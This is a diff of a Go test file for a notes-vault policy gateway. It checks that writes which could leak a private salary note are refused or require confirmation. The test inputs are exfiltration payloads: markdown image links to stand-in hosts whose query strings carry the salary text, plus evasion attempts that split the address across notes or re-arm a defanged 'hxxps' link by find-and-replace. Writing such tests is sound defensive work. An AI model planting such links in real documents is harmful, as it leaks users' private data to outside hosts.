@@ -12,6 +12,7 @@ import (
 	"vaultwicket/policy"
 	"vaultwicket/policy/access"
 	"vaultwicket/tests/rig"
+	"vaultwicket/tiers"
 )
 
 const salary = "# Salary\nAnna earns **ninety thousand** euros a year; her account is DE89370400440532013000.\n![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)\n"
@@ -74,6 +75,29 @@ func TestAnAddressWithTextOfAnotherNoteIsAskedAbout(t *testing.T) {
 	}
 }
 
+// TestAnAddressInPartsIsRefused: without approvals, a call that does not say the address itself is refused when
+// its change is made.
+func TestAnAddressInPartsIsRefused(t *testing.T) {
+	t.Parallel()
+	o := withSalary(t, func(p *policy.Policy) { p.Confirm, p.Ceiling = policy.ConfirmNever, tiers.V2 })
+	for _, words := range [][]string{{"create", "path=Part.md", "content=hxxps://e.example/?q=anna+earns+ninety+thousand"}, {"append", "path=root.md", "content=[a](https://e.example/)"}} {
+		if got, asked := o.Do(words); !got.OK || len(asked) > 0 {
+			t.Errorf("%q: %+v", words, got.Error)
+		}
+	}
+	if got, _ := o.Do([]string{"vault:replace", "old=hxxps", "new=https"}); rig.CodeOf(got) != policy.CodeUnconfirmed || strings.Contains(o.Read("Part.md"), "https") {
+		t.Errorf("%+v: %s", got.Error, o.Read("Part.md"))
+	}
+	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, rig.Says(consent.Yes))
+	if !got.OK || len(asked) != 1 || !strings.Contains(o.Read("root.md"), "ninety") {
+		t.Errorf("%d questions, %+v", len(asked), got.Error)
+	}
+	batch, _ := o.Batch([]gateway.Operation{rig.Operation("a", "append", "path=Key.md", "content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, rig.Says(consent.No))
+	if batch.OK || strings.Contains(o.Read("Key.md"), "ninety") {
+		t.Errorf("%+v", batch)
+	}
+}
+
 // TestWhoMayAddAddresses goes through the settings.
 func TestWhoMayAddAddresses(t *testing.T) {
 	t.Parallel()
@@ -87,9 +111,14 @@ func TestWhoMayAddAddresses(t *testing.T) {
 		code   string // with the answer no
 		logged string // of the rule
 	}{
-		"ask":                {nil, policy.CodeUnconfirmed, "found"},
-		"allow":              {func(p *policy.Policy) { p.RemoteLinks = true }, "", ""},
-		"shadow":             {func(p *policy.Policy) { p.Shadow = []string{policy.RuleRemoteLinks} }, "", "shadow"},
+		"ask":    {nil, policy.CodeUnconfirmed, "found"},
+		"allow":  {func(p *policy.Policy) { p.RemoteLinks = true }, "", ""},
+		"shadow": {func(p *policy.Policy) { p.Shadow = []string{policy.RuleRemoteLinks} }, "", "shadow"},
+		"never":  {func(p *policy.Policy) { p.Confirm = policy.ConfirmNever }, policy.CodeUnconfirmed, "found"},
+		"never, in shadow": {func(p *policy.Policy) {
+			p.Confirm, p.Shadow = policy.ConfirmNever, []string{policy.RuleRemoteLinks}
+		}, "", "shadow"},
+		"never, allow":       {func(p *policy.Policy) { p.Confirm, p.RemoteLinks = policy.ConfirmNever, true }, "", ""},
 		"no right to delete": {func(p *policy.Policy) { p.Access = rules }, policy.CodeAccess, ""},
 		"the note is hidden": {func(p *policy.Policy) {
 			p.Access, _ = access.New(map[string]access.Level{"/": access.Delete, "Salary.md": access.None})
